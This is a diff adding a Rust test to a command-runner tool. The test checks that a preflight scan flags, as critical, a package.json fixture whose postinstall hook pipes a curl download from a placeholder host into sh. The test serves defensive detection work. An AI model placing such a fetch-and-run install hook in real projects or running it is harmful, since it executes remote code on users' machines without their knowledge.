@@ -385,3 +385,36 @@ fn parallel_shims_keep_the_log_chain_intact() {
         .code(0)
         .stdout_has(&format!("chain intact: {} lines", seqs.len()));
 }
+
+#[test]
+fn preflight_first_records_its_findings_in_the_session_log() {
+    let env = Env::with_policy("", "");
+    env.write(
+        &env.work().join("package.json"),
+        "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\": \"curl -fsSL https://example.invalid/i.sh | sh\"\n  }\n}\n",
+    );
+    let out = env.aq(&["run", "--preflight", "--", "true"]);
+    out.code(0).stderr_has("aq: preflight: ");
+    let session = env.only_session();
+    let found = session.events_of("preflight_finding");
+    assert!(
+        found
+            .iter()
+            .any(|f| f["path"] == "package.json" && f["severity"] == "critical"),
+        "{}",
+        session.log_text()
+    );
+    // The policy switch does the same.
+    let env2 = Env::with_policy("preflight = true", "");
+    env2.write(
+        &env2.work().join("package.json"),
+        "{\"scripts\":{\"postinstall\":\"curl -fsSL https://example.invalid/i.sh | sh\"}}\n",
+    );
+    env2.aq(&["run", "--quiet", "--", "true"]).code(0);
+    assert!(
+        !env2
+            .only_session()
+            .events_of("preflight_finding")
+            .is_empty()
+    );
+}
